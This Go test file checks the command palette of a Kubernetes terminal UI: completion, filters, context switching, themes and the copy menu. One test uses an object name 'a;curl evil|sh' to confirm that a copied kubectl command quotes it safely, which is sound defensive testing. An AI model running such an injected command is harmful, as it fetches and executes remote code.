package model

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"
	"github.com/google/go-cmp/cmp"

	"github.com/kstatus-tui/kstatus-tui/internal/feed"
	"github.com/kstatus-tui/kstatus-tui/internal/model/panes"
	"github.com/kstatus-tui/kstatus-tui/internal/model/rows"
	"github.com/kstatus-tui/kstatus-tui/internal/object"
)

func (p *play) suggests() []string {
	var out []string
	for _, s := range p.m.Keyboard.Palette().Suggestions {
		out = append(out, s.Text)
	}
	return out
}

func (p *play) typesIn(text string) {
	for _, r := range text {
		p.send(press(string(r)))
	}
}

func TestThePaletteCompletesVerbsThenTheirArguments(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	p.batch(0, b)
	p.keys(":")
	p.typesIn("gr")
	if got := p.suggests(); len(got) == 0 || got[0] != "group " {
		t.Fatalf("suggested: %q", got)
	}
	p.keys("tab")
	if diff := cmp.Diff([]string{"group none", "group namespace", "group kind", "group status", "group cause", "group wave"}, p.suggests()); diff != "" {
		t.Errorf("arguments (-want +got):\n%s", diff)
	}
	p.keys("down", "down", "enter")
	if g := p.m.Tree.Settings().Group; g != rows.GroupKind || p.m.Keyboard.Mode() != Browsing {
		t.Errorf("grouped by %s, mode %d", g, p.m.Keyboard.Mode())
	}
	p.keys(":")
	p.typesIn("namespace to")
	p.keys("enter")
	if f := filterOf(p); f != "ns=tools" {
		t.Errorf("filter %q", f)
	}
}

func TestThePaletteRunsTheActionOfEveryKey(t *testing.T) {
	p := screen(t)
	p.keys(":")
	p.typesIn("tim")
	if s := p.m.Keyboard.Palette().Suggestions; len(s) == 0 || s[0].Text != "timeline" || s[0].Key != "6" {
		t.Fatalf("suggested: %+v", s)
	}
	p.keys("enter")
	if p.m.Panes.Pane() != PaneTimeline {
		t.Errorf("pane %d", p.m.Panes.Pane())
	}
	p.keys(":")
	p.typesIn("theme")
	p.keys("enter")
	if v := p.m.Keyboard.Palette(); p.m.Keyboard.input.Value() != "theme " || p.m.Keyboard.Mode() != Commanding {
		t.Errorf("enter on a verb asks for its argument: %+v", v)
	}
	p.keys("esc")
	if p.m.Keyboard.Mode() != Browsing {
		t.Error("esc does not close it")
	}
}

func TestThePaletteNamesTheReasonOfAnUnavailableAction(t *testing.T) {
	p := screen(t)
	p.keys(":")
	p.typesIn("sort sideways")
	p.keys("enter")
	if v := p.m.Keyboard.Palette(); v.Error != "there is no sort sideways" || p.m.Keyboard.Mode() != Commanding {
		t.Errorf("%+v", v)
	}
	p.keys("ctrl+u")
	p.typesIn("frobnicate")
	p.keys("enter")
	if v := p.m.Keyboard.Palette(); v.Error != "no such command, and no such kind is followed" {
		t.Errorf("%+v", v)
	}
}

func TestEveryActionIsInThePaletteOnce(t *testing.T) {
	p := screen(t)
	p.keys(":")
	seen := map[string]int{}
	for _, s := range p.suggests() {
		seen[s]++
	}
	for _, b := range Bindings {
		if b.Context == InText || b.Action == Commands {
			continue
		}
		want := 1
		if b.Context == InReplay { // nothing is replayed
			want = 0
		}
		if n := seen[string(b.Action)] + seen[string(b.Action)+" "]; n != want {
			t.Errorf("%s is there %d times, want %d", b.Action, n, want)
		}
	}
}

// clipboard is the text that was copied last.
func (p *play) clipboard() (text string) {
	for _, msg := range p.told {
		if fmt.Sprintf("%T", msg) == fmt.Sprintf("%T", tea.SetClipboard("")()) {
			text = fmt.Sprint(msg)
		}
	}
	return text
}

func TestThePaletteChangesToAnotherContextOrSource(t *testing.T) {
	p := newPlay(t, Options{Screen: true, Namespace: "shop", Contexts: []string{"prod-eu1", "prod-us1", "stage"}})
	p.send(rowsOn(120, 20))
	_, b := bazaar()
	p.batch(0, b)
	p.keys(":")
	p.typesIn("context prod-u")
	p.keys("enter")
	if p.other != (Other{Context: "prod-us1"}) || p.m.Keyboard.Mode() != Browsing {
		t.Errorf("asked for %+v", p.other)
	}
	p.keys(":")
	p.typesIn("source ")
	if got := p.suggests(); got[0] != "source helm/shop" || !slices.Contains(got, "source deployment.apps/web") {
		t.Errorf("proposals: %v", got)
	}
	p.typesIn("sts/Cache -n Data")
	if got := p.suggests(); len(got) != 1 || got[0] != "source sts/Cache -n Data" {
		t.Errorf("what is typed is proposed as it is typed: %v", got)
	}
	p.keys("enter")
	if p.other != (Other{Source: "sts/Cache -n Data"}) {
		t.Errorf("asked for %+v", p.other)
	}
	if n := p.m.Facts.Notices(); len(n) == 0 || n[len(n)-1].Text != "it cannot be followed" {
		t.Errorf("that it failed is not told: %+v", n)
	}
}

func TestARecordingFollowsNothingElse(t *testing.T) {
	p := newPlay(t, Options{Screen: true, Fixed: "it is a recording"})
	p.send(rowsOn(120, 20))
	for _, command := range []string{"source deploy/web", "namespace other"} {
		p.keys(":")
		p.typesIn(command)
		p.keys("enter")
		if p.other != (Other{}) || p.m.Display.Flash() != "it is a recording" {
			t.Errorf("%s: %+v, and %q is said", command, p.other, p.m.Display.Flash())
		}
		p.keys("esc")
	}
}

func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	odd := &object.Object{ID: object.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
	b.Objects, b.Roots = []*object.Object{odd}, []feed.Root{{ID: odd.ID}}
	p.batch(0, b)
	n := p.m.Facts.World.Tree.Nodes[odd.ID]
	if got, want := p.m.Intake.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

func TestTheCopyMenuTakesEverythingToTheClipboard(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	p.batch(0, b)
	for what, want := range map[string]string{
		"name":    "web",
		"command": "kubectl describe pod web-1-1 -n shop", // the next step of its cause
		"reason":  "Deployment/web: Failed",
	} {
		p.keys("g", "C")
		p.typesIn(what)
		p.keys("enter")
		if text := p.clipboard(); !strings.HasPrefix(text, want) {
			t.Errorf("%s: %q", what, text)
		}
	}
	p.keys("C")
	p.typesIn("yaml")
	p.keys("enter")
	p.send(panes.DetailLoaded{Gen: p.yamlGen(), Detail: feed.Detail{YAML: "kind: Deployment\n"}})
	if text := p.clipboard(); text != "kind: Deployment\n" {
		t.Errorf("YAML: %q", text)
	}
	p.keys("C")
	p.typesIn("report")
	p.keys("enter")
	if text := p.clipboard(); text != "a report as md" {
		t.Errorf("report: %q", text)
	}
}

func TestShortNamesOfCommandsAreUnderstood(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	p.batch(0, b)
	for typed, want := range map[string]string{"ns": "namespace ", "ctx": "context ", "export": "report "} {
		p.keys(":")
		p.typesIn(typed)
		if got := p.suggests(); len(got) == 0 || got[0] != want {
			t.Errorf("%s: suggested %q", typed, got)
		}
		p.keys("esc")
	}
	p.keys(":")
	p.typesIn("ns to")
	p.keys("enter")
	if f := filterOf(p); f != "ns=tools" {
		t.Errorf("filter %q", f)
	}
	p.keys(":")
	p.typesIn("ns elsewhere")
	p.keys("enter")
	if in, e := p.m.Keyboard.Input(), p.m.Keyboard.Palette().Error; in.Value() != "source --all -n elsewhere" || e != "nothing here is in it" {
		t.Errorf("how would one get there? %q, %q", in.Value(), e)
	}
	if p.keys("enter"); p.other.Source != "--all -n elsewhere" || p.m.Keyboard.Mode() != Browsing {
		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Keyboard.Palette().Error)
	}
}

func TestThePaletteFollowsAllOfAnotherNamespace(t *testing.T) {
	p := newPlay(t, Options{Screen: true, Sources: []string{"--all"}})
	p.send(rowsOn(120, 20))
	_, b := bazaar()
	p.batch(0, b)
	p.keys(":")
	p.typesIn("ns elsewhere")
	p.keys("enter")
	if p.other.Source != "--all -n elsewhere" || p.m.Keyboard.Mode() != Browsing {
		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Keyboard.Palette().Error)
	}
	p.keys(":")
	p.typesIn("ns tool") // a part of tools, but it may be meant
	p.keys("down", "enter")
	if p.other.Source != "--all -n tool" || p.m.Keyboard.Mode() != Browsing {
		t.Errorf("asked for: %+v; the palette says %q", p.other, p.m.Keyboard.Palette().Error)
	}
}

func TestThePaletteShowsPresentSettingsAndTheTextToCopy(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	p.batch(0, b)
	hint := func(command, text string) string {
		p.keys(":")
		p.typesIn(command)
		defer p.keys("esc")
		for _, s := range p.m.Keyboard.Palette().Suggestions {
			if s.Text == text {
				return s.Hint
			}
		}
		t.Fatalf("%s does not suggest %q", command, text)
		return ""
	}
	p.m.Tree.foldAll(rows.FoldNothing)
	p.keys("b", "down", "down")
	key, _ := p.m.Tree.Selected()
	for _, c := range []struct{ command, text, want string }{
		{"group ", "group namespace", "now"},
		{"group ", "group none", ""},
		{"sort ", "sort problems", "now"},
		{"copy ", "copy name", key.ID.Name},
	} {
		if got := hint(c.command, c.text); got != c.want {
			t.Errorf("%s: %q, want %q", c.text, got, c.want)
		}
	}
	if got := hint("copy ", "copy command"); !strings.HasPrefix(got, "kubectl ") {
		t.Errorf("copy command: %q", got)
	}
}

// k9s's habit: a resource's name shows its objects.
func TestAResourceNameInThePaletteFilters(t *testing.T) {
	for _, typed := range []string{"pods", "pod", "po", "Pods"} {
		p := screen(t)
		_, b := bazaar()
		p.batch(0, b)
		p.keys(":")
		p.send(tea.PasteMsg{Content: typed})
		if s := p.m.Keyboard.Palette().Suggestions; len(s) == 0 || s[0].Text != "filter kind=pod" || s[0].Hint != "show only Pods" {
			t.Errorf(":%s proposes %v", typed, s)
		}
		p.keys("enter")
		if got := filterOf(p); got != "kind=pod" || p.m.Keyboard.Mode() != Browsing {
			t.Errorf(":%s filters by %q, mode %d", typed, got, p.m.Keyboard.Mode())
		}
	}
}

// What is chosen runs, also where a resource's name was typed.
func TestACommandIsChosenBesideAResourceName(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	p.batch(0, b)
	p.keys(":")
	p.send(tea.PasteMsg{Content: "pods"})
	if s := p.m.Keyboard.Palette().Suggestions; len(s) != 2 || s[1].Text != "all-pods" {
		t.Fatalf("proposed: %v", s)
	}
	if p.keys("down", "enter"); filterOf(p) != "" || p.m.Keyboard.Mode() != Browsing {
		t.Errorf("it filters by %q, mode %d", filterOf(p), p.m.Keyboard.Mode())
	}
}

// Text within the name of a command is a proposal.
func TestThePaletteRunsNothingThatWasNotTyped(t *testing.T) {
	p := screen(t)
	_, b := bazaar()
	p.batch(0, b)
	p.keys(":")
	p.send(tea.PasteMsg{Content: "current"}) // fold-current
	if p.keys("enter"); p.m.Keyboard.Mode() != Commanding || p.m.Keyboard.Input().Value() != "fold-current" {
		t.Errorf("mode %d, input %q: run, or not proposed", p.m.Keyboard.Mode(), p.m.Keyboard.Input().Value())
	}
	if p.keys("enter"); p.m.Keyboard.Mode() != Browsing {
		t.Errorf("enter again does not run it: mode %d", p.m.Keyboard.Mode())
	}
}

func TestThePaletteMarksThePresentTheme(t *testing.T) {
	p := newPlay(t, Options{Screen: true, Theme: "dark", Themes: []string{"dark", "light"}})
	present := func() (names []string) {
		p.keys(":")
		p.send(tea.PasteMsg{Content: "theme "})
		for _, s := range p.m.Keyboard.Palette().Suggestions {
			if s.Hint == "now" {
				names = append(names, s.Text)
			}
		}
		p.keys("esc")
		return names
	}
	if got := present(); len(got) != 1 || got[0] != "theme dark" {
		t.Errorf("now: %q", got)
	}
	p.keys(":")
	p.send(tea.PasteMsg{Content: "theme light"})
	p.keys("enter")
	if got := present(); len(got) != 1 || got[0] != "theme light" {
		t.Errorf("after the change now: %q", got)
	}
}

// A resource is named as in kubectl: with its group, in any number; :namespaces is :ns. Of one
// that nobody follows that is said.
func TestResourcesAreNamedAsInKubectl(t *testing.T) {
	p := newPlay(t, Options{Screen: true})
	p.send(rowsOn(120, 20))
	d := deployment("web", 2)
	gw := &object.Object{ID: id("gateway.networking.k8s.io", "Gateway", "gw"), UID: "g"}
	p.batch(0, feed.Batch{Synced: true, Roots: []feed.Root{root(d), root(gw)}, Objects: []*object.Object{d, gw}})
	for typed, want := range map[string]string{
		"deploy": "filter kind=deployment", "deployments.apps": "filter kind=deployment", "gateways": "filter kind=gateway",
		"namespaces": "namespace ", "contexts": "context ",
	} {
		p.m.Keyboard.command(typed)
		if all := p.m.Keyboard.Palette().Suggestions; len(all) == 0 || all[0].Text != want {
			t.Errorf(":%s proposes %+v, want %q", typed, all, want)
		}
	}
	for _, typed := range []string{"ingresses", "deployments.extensions"} {
		p.m.Keyboard.command(typed)
		p.keys("enter")
		if got := p.m.Keyboard.Palette().Error; got != "no such command, and no such kind is followed" {
			t.Errorf(":%s answers %q", typed, got)
		}
	}
}

// The screen shows a theme while it is chosen, and the old one when it is not.
func TestAThemeIsPreviewedWhileItIsChosen(t *testing.T) {
	p := newPlay(t, Options{Screen: true, Theme: "dark", Themes: []string{"auto", "dark", "light", "mine"}})
	p.send(rowsOn(120, 20))
	p.keys(":", "t", "h", "e", "m", "e", "space")
	// The list begins with what is in effect, so that nothing changes before something is chosen.
	if got := p.m.Display.Theme(); got != "dark" {
		t.Errorf("the list alone shows %s", got)
	}
	p.keys("down")
	if got := p.m.Display.Theme(); got != "light" {
		t.Errorf("previewed: %s", got)
	}
	p.keys("up", "up")
	if got := p.m.Display.Theme(); got != "auto" {
		t.Errorf("two up: %s", got)
	}
	p.keys("m")
	if got := p.m.Display.Theme(); got != "mine" {
		t.Errorf("typed: %s", got)
	}
	p.keys("esc")
	if got := p.m.Display.Theme(); got != "dark" {
		t.Errorf("cancelled: %s", got)
	}
	p.keys(":", "t", "h", "e", "m", "e", "space", "m", "enter")
	if got := p.m.Display.Theme(); got != "mine" {
		t.Errorf("chosen: %s", got)
	}
}
